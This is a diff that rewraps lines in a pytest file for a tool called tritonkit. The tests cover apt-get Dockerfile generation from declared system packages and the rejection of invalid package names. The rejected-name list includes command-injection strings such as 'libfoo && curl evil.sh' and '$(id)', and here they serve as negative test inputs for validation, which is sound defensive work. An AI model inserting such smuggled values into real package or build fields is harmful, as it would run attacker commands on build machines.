@@ -38,13 +38,17 @@ def built_dockerfile(root: Path) -> list[str]:
 def test_system_packages_are_installed_before_the_pip_requirements(tmp_path: Path) -> None:
     lines = built_dockerfile(project_with(tmp_path, system_packages=["libespeak-ng1", "libsndfile1", "libespeak-ng1"],
                                           requirements=["soundfile"]))
-    assert lines[1:] == [f"FROM {IMAGE}", APT.format("libespeak-ng1 libsndfile1"), "RUN pip install --no-cache-dir 'soundfile'"]
+    assert lines[1:] == [f"FROM {IMAGE}", APT.format("libespeak-ng1 libsndfile1"),
+                         "RUN pip install --no-cache-dir 'soundfile'"]
     compose = yaml.safe_load((tmp_path / "docker-compose.yml").read_text())
     assert compose["services"]["triton"]["build"] == {"context": ".", "dockerfile": "tritonkit.Dockerfile"}
 
 
 def test_system_packages_alone_make_a_dockerfile(tmp_path: Path) -> None:
-    assert built_dockerfile(project_with(tmp_path, system_packages=["g++-12", "libc6"]))[1:] == [f"FROM {IMAGE}", APT.format("g++-12 libc6")]
+    assert built_dockerfile(project_with(tmp_path, system_packages=["g++-12", "libc6"]))[1:] == [
+        f"FROM {IMAGE}",
+        APT.format("g++-12 libc6"),
+    ]
 
 
 def test_no_packages_no_dockerfile(tmp_path: Path) -> None:
@@ -53,12 +57,15 @@ def test_no_packages_no_dockerfile(tmp_path: Path) -> None:
     assert "build" not in yaml.safe_load((tmp_path / "docker-compose.yml").read_text())["services"]["triton"]
 
 
-@pytest.mark.parametrize("name", ["libespeak-ng1=1.51", "LibEspeak", "espeak ng", "-y", "x", "libfoo && curl evil.sh", "$(id)", "pkg:amd64"])
+@pytest.mark.parametrize("name",
+                         ["libespeak-ng1=1.51", "LibEspeak", "espeak ng", "-y", "x", "libfoo && curl evil.sh", "$(id)",
+                          "pkg:amd64"])
 def test_a_bad_package_name_is_one_line_and_nothing_is_written(tmp_path: Path, name: str) -> None:
     project_with(tmp_path, system_packages=["libespeak-ng1", name])
     before = snapshot(tmp_path)
     lines = assert_one_line_errors(run_in_process(["build"], tmp_path), "tritonkit.yaml: models.echo.system_packages: ")
-    assert lines == [f"tritonkit.yaml: models.echo.system_packages: {name!r} is not a Debian package name; write the bare name "
+    assert lines == [f"tritonkit.yaml: models.echo.system_packages: {name!r} is not a Debian package name; write the "
+                     "bare name "
                      "(lowercase letters, digits, '+', '-', '.', no version or options), e.g. libespeak-ng1"]
     assert snapshot(tmp_path) == before
 
@@ -73,4 +80,6 @@ def test_the_schema_describes_system_packages_with_the_name_pattern() -> None:
     result = run_cli("schema")
     assert result.returncode == 0, result.stderr
     field = json.loads(result.stdout)["$defs"]["ModelSpec"]["properties"]["system_packages"]
-    assert field["items"] == {"type": "string", "pattern": "^[a-z0-9][a-z0-9+.-]+$"} and "apt-get" in field["description"]
+    assert (
+        field["items"] == {"type": "string", "pattern": "^[a-z0-9][a-z0-9+.-]+$"} and "apt-get" in field["description"]
+    )
